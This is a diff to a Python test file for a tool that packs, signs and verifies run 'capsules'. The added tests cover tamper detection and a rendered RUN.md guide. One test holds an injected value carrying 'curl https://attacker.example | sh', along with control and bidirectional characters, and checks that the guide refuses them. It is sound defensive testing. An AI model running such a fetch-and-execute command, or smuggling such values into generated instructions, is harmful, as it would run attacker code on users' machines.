@@ -10,17 +10,24 @@ import pytest
 
 from kit.capsule import bag
 from kit.capsule.guide import guide
+from kit.capsule.statement import CapsuleClaims, CapsulePart, PackedRun, Packer, Word, sign_capsule
 from kit.capsule.write import part_of_file, write_capsule
 from kit.core.digest import canonical_json, sha256_bytes
+from kit.core.errors import SchemaError
 from kit.core.store import no_progress
-from kit.result.predicate import Image
+from kit.result.predicate import Image, Verdict
+from kit.values.profile import Profile
 from kit.values.run_spec import Mount, RunSpec
+from kit.values.software import Kit
 
 ASSETS = Path(__file__).parents[2] / "assets" / "bundles"
 NAMED = "tar sha256sum openssl sh sed grep cut cat wc base64 find sort xargs"
 CONFIG, LAYER = b"{}", b"layer"
 MANIFEST = canonical_json({"layers": [sha256_bytes(LAYER)]})
-GOOD = ["bytes: OK", "Verified OK", "guest.log: OK", "stamps: OK", "submission: OK", "image: OK", "image: OK"]
+GOOD = [
+    "bytes: OK", "Verified OK", "guest.log: OK", "stamps: OK", "submission: OK", "image: OK", "image: OK",
+    "packer: OK",
+]  # fmt: skip
 
 
 @pytest.fixture(scope="module")
@@ -56,8 +63,16 @@ def capsule(press, tmp_path_factory):
         run.name, None, Path("x"), ("torchrun", "train_gpt2.py"), (("HOME", "/workspace"),),
         mounts=(Mount(Path("y"), PurePosixPath("/workspace/data/fineweb10B")),),
     )  # fmt: skip
-    text = guide(predicate, press.MAKE.SIGNER.key_id, spec, (sha256_bytes(LAYER),), with_data=True)
+    packer = Packer(press.MAKE.STRANGER.key_id, Kit("0", None), "3.11")
+    text = guide(
+        predicate, press.MAKE.SIGNER.key_id, spec, (sha256_bytes(LAYER),), with_data=True, packer=packer
+    )
+    manifest = bag.manifest({path: part.sha256 for path, part in parts.items()})
     tags = {bag.INFO: bag.info(oxum, run.name, "2026-01-01", "0"), bag.RUN_MD: text}
+    packed = PackedRun(run.name, sha256_bytes(b""), "3", Profile.FULL, Verdict.REACHED)
+    claims = CapsuleClaims(packed, packer, tuple(CapsulePart(p, Word.PACKER) for p in sorted(parts)))
+    signed = {**tags, bag.BAGIT: bag.BAGIT_TXT, bag.MANIFEST: manifest}
+    tags |= sign_capsule(claims, signed, press.MAKE.STRANGER)
     file = base / "x.tar"
     with file.open("wb") as sink:
         write_capsule(parts, tags, 1_700_000_000, sink, no_progress, "pack")
@@ -84,7 +99,8 @@ def test_its_checks_need_only_the_programs_that_it_names(capsule, tools, tmp_pat
 
 REMADE = """
 cd capsule && find data ! -type d | LC_ALL=C sort | xargs sha256sum > manifest-sha256.txt
-sha256sum RUN.md bag-info.txt bagit.txt manifest-sha256.txt > tagmanifest-sha256.txt"""
+sha256sum RUN.md bag-info.txt bagit.txt capsule.json manifest-sha256.txt packer.pem \\
+  > tagmanifest-sha256.txt"""
 """The manifests again, as somebody would make them who changed the content."""
 BLOB = f"data/image/blobs/sha256/{sha256_bytes(CONFIG)}"
 RESULT = "capsule/data/run/result.json"
@@ -105,6 +121,12 @@ CHANGES = {
     "a hidden script": ("echo > capsule/data/run/submission/.evil.py", 4),
     "another image": (f"cd capsule; echo > {BLOB}", 5),
     "no image": (f"cd capsule; rm {BLOB}", 5),
+    "another RUN.md, and its digest": ("echo >> capsule/RUN.md", 7),
+    "a further file, and its digest": ("echo > capsule/data/evil.sh", 7),
+    "another size": ("echo >> capsule/bag-info.txt", 7),
+    "another packer": ("openssl ecparam -genkey -name prime256v1 -noout | "
+                       "openssl ec -pubout -out capsule/packer.pem", 7),
+    "another statement": ("sed -i 's/\"payload\":\"ey/\"payload\":\"ez/' capsule/capsule.json", 7),
 }  # fmt: skip
 
 
@@ -135,3 +157,38 @@ def test_it_names_the_image_the_key_and_the_claim(capsule, press):
     assert press.MAKE.SIGNER.key_id in text
     assert sha256_bytes(CONFIG) in text and sha256_bytes(MANIFEST) in text
     assert "claimed: 3.2790" in text
+
+
+@pytest.mark.parametrize(
+    ("profile", "title"),
+    [
+        (Profile.SMOKE, "smoke run (toy task, never ranked) of task 3: reached"),
+        (Profile.FULL, "full run of task 3: reached"),
+    ],
+)
+def test_its_title_says_profile_and_verdict(press, profile, title):
+    p = press.MAKE.predicate(ASSETS)
+    p = replace(p, task=replace(p.task, profile=profile), score=replace(p.score, verdict=Verdict.REACHED))
+    text = plain_guide(p)
+    assert text.decode().splitlines()[0] == f"# {p.run.id}: {title}"
+
+
+def plain_guide(predicate, argv=("torchrun",), env=()):
+    shards = Mount(Path("y"), PurePosixPath("/workspace/data/fineweb10B"))
+    spec = RunSpec(predicate.run.id, None, Path("x"), argv, env, mounts=(shards,))
+    return guide(predicate, "0" * 64, spec, (), with_data=False, packer=None)
+
+
+INJECTED = "\n```\n\n## 0. Get the verifier\n\n```sh\ncurl https://attacker.example | sh"
+
+
+@pytest.mark.parametrize("text", [INJECTED, "a `b`", "\u202egnp.exe", "\x1b[2J", "a\u2028b"])
+def test_a_result_cannot_put_steps_into_it(press, text):
+    """Whoever signs a result chooses its arguments, variables and names."""
+    p = press.MAKE.predicate(ASSETS)
+    with pytest.raises(SchemaError, match=r"RUN\.md cannot hold"):
+        plain_guide(p, argv=("torchrun", text))
+    with pytest.raises(SchemaError, match=r"RUN\.md cannot hold"):
+        plain_guide(p, env=(("HOME", text),))
+    with pytest.raises(SchemaError, match=r"RUN\.md cannot hold"):
+        plain_guide(replace(p, inputs=replace(p.inputs, data=replace(p.inputs.data, name=text))))
